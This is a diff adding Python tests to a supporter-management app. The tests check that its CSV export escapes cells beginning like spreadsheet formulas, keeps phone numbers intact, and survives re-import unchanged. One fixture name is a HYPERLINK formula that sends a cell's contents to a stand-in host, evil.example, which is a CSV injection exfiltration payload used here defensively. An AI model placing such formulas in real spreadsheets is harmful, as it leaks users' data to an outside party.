@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import json
@@ -319,3 +320,103 @@ async def test_declared_length_over_the_limit_is_refused_unread(make_client: Mak
     assert response.status_code == 413
     assert sent == 0
     assert await count(client, Supporter) == 0
+
+
+FORMULA_NAMES = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "-Ana-",
+    "@amina",
+    "+1 call me",
+    "'=already quoted",
+    "Plain Name",
+]
+
+
+async def formula_supporters(client: httpx.AsyncClient) -> list[dict[str, Any]]:
+    """Supporters whose text starts like a formula, with phone, whatsapp, telegram group and
+    email addresses that start with + or -; as GET /supporters answers them."""
+    assert (await client.post(f"{API}/teams", json={"name": "@Ops"})).status_code == 201
+    for i, name in enumerate(FORMULA_NAMES):
+        response = await client.post(
+            f"{API}/supporters",
+            json={
+                "name": name,
+                "addresses": [
+                    {"channel": "sms", "address": f"+1415555{i:04d}"},
+                    {"channel": "whatsapp", "address": f"+1415555{i:04d}"},
+                    {"channel": "telegram", "address": f"-100123456{i}"},
+                    {"channel": "email", "address": f"-dash{i}@example.org"},
+                ],
+                "tags": ["=1+1", "plain"],
+                "teams": ["@Ops"],
+                "language": "-",
+            },
+        )
+        assert response.status_code == 201, response.text
+    return await listed_supporters(client)
+
+
+async def listed_supporters(client: httpx.AsyncClient) -> list[dict[str, Any]]:
+    listed = await client.get(f"{API}/supporters", params={"limit": 100})
+    return sorted(listed.json()["items"], key=lambda s: s["id"])
+
+
+async def test_export_escapes_formulas_but_not_phone_numbers(client: httpx.AsyncClient) -> None:
+    await formula_supporters(client)
+    export = await client.get(f"{API}/supporters/export")
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert [r["name"] for r in rows] == [
+        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "'-Ana-",
+        "'@amina",
+        "'+1 call me",
+        "''=already quoted",  # one more quote: the import drops exactly one
+        "Plain Name",
+    ]
+    first = rows[0]
+    # E.164 numbers and Telegram chat ids are numbers to a spreadsheet: kept as they are.
+    assert (first["phone"], first["whatsapp"], first["telegram"]) == (
+        "+14155550000",
+        "+14155550000",
+        "-1001234560",
+    )
+    # An email address may start like a formula: escaped like any text.
+    assert first["email"] == "'-dash0@example.org"
+    assert (first["tags"], first["teams"], first["language"]) == ("'=1+1|plain", "'@Ops", "'-")
+    numbers = {"phone", "whatsapp", "telegram"}
+    for row in rows:
+        for column, cell in row.items():
+            if column not in numbers:
+                assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
+
+
+async def test_exported_formulas_re_import_unchanged(client: httpx.AsyncClient) -> None:
+    before = await formula_supporters(client)
+    export = await client.get(f"{API}/supporters/export")
+    again = await upload(client, export.content)
+    assert again.json() == {"created": 0, "updated": len(FORMULA_NAMES), "rejected": []}
+    after = await listed_supporters(client)
+    assert [s["name"] for s in after] == FORMULA_NAMES
+    assert after == before
+
+
+async def test_cli_import_of_an_export_changes_nothing(
+    client: httpx.AsyncClient,
+    database_url: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    before = await formula_supporters(client)
+    path = tmp_path / "supporters.csv"
+    path.write_bytes((await client.get(f"{API}/supporters/export")).content)
+    monkeypatch.setenv("RALLYPOINT_DATABASE_URL", database_url)
+    monkeypatch.setenv("RALLYPOINT_DEFAULT_REGION", "US")
+    monkeypatch.chdir(tmp_path)  # no stray .env
+    # `rallypoint import` runs its own event loop: off this test's loop, on a thread.
+    assert await asyncio.to_thread(main, ["import", str(path)]) == 0
+    summary = json.loads(capsys.readouterr().out)
+    assert summary == {"created": 0, "updated": len(FORMULA_NAMES), "rejected": []}
+    # The CLI runs on the real clock: everything but the time of the (empty) update stays.
+    after = await listed_supporters(client)
+    assert [s | {"updated_at": None} for s in after] == [s | {"updated_at": None} for s in before]
